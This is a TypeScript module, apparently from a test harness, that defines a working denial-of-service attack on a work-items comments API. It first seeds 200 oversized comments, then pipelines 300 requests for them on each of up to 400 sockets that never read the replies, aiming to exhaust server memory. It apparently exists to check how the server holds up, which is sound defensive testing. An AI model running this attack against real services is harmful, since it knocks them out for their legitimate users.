import { randomUUID } from 'node:crypto';
import { setTimeout as pause } from 'node:timers/promises';
import type { Attack, Target } from './attack.js';
import { DeafSocket } from './deaf-socket.js';

const COMMENTS = 200;
/** The text of a comment. Each character takes six bytes in JSON: a page of these comments is 2.4 MB. */
const BODY = `${'\u0001'.repeat(1_999)}z`;
const SOCKETS = 20;
const REQUESTS = 300;
/** The maximum number of sockets in the whole attack. */
const MOST_SOCKETS = 400;

const headersOf = ({ token }: Target) => ({ authorization: `Bearer ${token}`, 'content-type': 'application/json' });

/** Pipelines requests for a page of 2.4 MB on sockets that are never read. */
export const unreadAnswers: Attack = {
  name: 'unread answers',
  environment: { NODE_OPTIONS: '--max-old-space-size=512' },
  prepare: async (target) => {
    for (let n = 0; n < COMMENTS; n += 1) {
      const answer = await fetch(`${target.origin}${target.project}/work-items/ATT-1/comments`, {
        method: 'POST',
        headers: { ...headersOf(target), 'idempotency-key': randomUUID() },
        body: JSON.stringify({ body: BODY }),
      });
      await answer.arrayBuffer();
      if (answer.status !== 201) throw new Error(`A comment was answered ${answer.status}.`);
    }
  },
  run: async ({ port, project, token }, over) => {
    const request = [
      `GET ${project}/work-items/ATT-1/comments?limit=${COMMENTS} HTTP/1.1`,
      'Host: localhost',
      `Authorization: Bearer ${token}`,
      '',
      '',
    ].join('\r\n');
    const bytes = Buffer.from(request.repeat(REQUESTS));
    let [opened, cut] = [0, 0];
    const attack = async (): Promise<void> => {
      while (!over.aborted && opened < MOST_SOCKETS) {
        opened += 1;
        const { socket } = await DeafSocket.open(port, false);
        socket.write(bytes);
        // A socket that reads nothing notices its end only when it writes.
        const isOver = (): boolean => over.aborted;
        while (!isOver() && !socket.destroyed) {
          await pause(500);
          socket.write('\r\n');
        }
        if (!isOver()) cut += 1;
        socket.destroy();
      }
    };
    await Promise.all(Array.from({ length: SOCKETS }, attack));
    return `${opened} sockets with ${REQUESTS} requests each, ${cut} of them closed by the server`;
  },
};
